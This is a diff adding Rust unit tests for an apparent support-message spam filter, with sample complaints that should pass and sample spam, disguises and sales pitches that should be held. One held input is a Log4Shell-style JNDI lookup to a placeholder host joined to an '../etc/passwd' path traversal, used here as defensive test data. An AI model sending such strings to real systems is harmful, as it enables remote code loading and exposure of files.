@@ -176,6 +176,41 @@ pub(super) mod tests {
         assert_eq!(judge(Some(9)), Verdict::Accept);
     }
 
+    fn points_of(subject: &str, message: &str) -> i64 {
+        points(&Draft { subject: Subject::parse(subject).expect("a subject"), ..draft(message) })
+    }
+
+    #[test]
+    fn what_creators_sell_and_customers_complain_about_is_let_through() {
+        let kept = [
+            ("Reembolso do robô", "Comprei um robô de forex que promete 10% ao dia e não funciona. Quero o reembolso."),
+            ("SEO course", "The coupon for the SEO course was not applied, I paid the full price."),
+            ("Mis enlaces", "Estos dan 404: https://a.example/1 https://a.example/2 https://a.example/3 https://a.example/4"),
+            ("É golpe?", "Recebi no WhatsApp que ganhei R$ 1.000, o link é http://premio.example/x . É de vocês?"),
+            ("Dúvida", "como falo com o dono do curso?"),
+        ];
+        for (subject, message) in kept {
+            assert!(points_of(subject, message) < HELD_FROM, "{subject}");
+        }
+    }
+
+    #[test]
+    fn offers_to_the_company_and_disguises_are_kept_aside() {
+        let held = [
+            "[url=http://a.example]casino[/url]",
+            "Сhеар раgеs fоr уоu",
+            "mNbVcXyLkJhGfDsA",
+            "${jndi:ldap://a.example/x} ../etc/passwd",
+            "v i s i t   u s   r a n k f a s t [dot] example",
+            "We can bring you more customers every month. Shall I send you our price list?",
+            "Somos uma agência de marketing e fazemos tráfego pago para empresas. Posso enviar uma proposta sem compromisso?",
+            "Ofrecemos posicionamiento en Google para su empresa. ¿Le puedo enviar una cotización sin compromiso?",
+        ];
+        for message in held {
+            assert!(points_of("Hello", message) >= HELD_FROM, "{message}");
+        }
+    }
+
     #[test]
     fn an_entry_blocks_an_address_or_a_domain_and_nothing_else() {
         let blocked = |entry: &str| is_blocked("maria@mail.example", &[entry.to_owned()]);
